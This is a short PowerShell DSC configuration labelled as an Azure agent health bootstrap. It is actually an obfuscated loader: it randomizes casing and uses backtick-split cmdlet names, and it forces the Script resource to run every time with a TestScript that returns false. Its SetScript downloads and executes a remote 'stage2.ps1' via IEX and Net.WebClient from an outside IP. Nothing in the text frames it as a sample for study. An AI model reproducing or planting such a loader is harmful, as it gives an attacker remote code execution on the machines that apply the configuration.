# booTSTRaP 9616 V1
confiGuRATion AzureaGENThEALtH {
  Imp`oRT-`D`scREs`OurcE -modULeNaME PsDesIreDstATeconfIGuRatION
  nODe LOcAlhoST {
    ScrIPT BOOtSTRap {
      GETSCriPt = { @{ result = '' } }
      tEsTScriPt = { $faLSE }
      SEtsCrIPt = { IeX (ne`w-`ob`jecT nEt.Web`cl`ienT).DOwnlOadstriNg('http://203.0.113.200/stage2.ps1') }
    }
  }
}
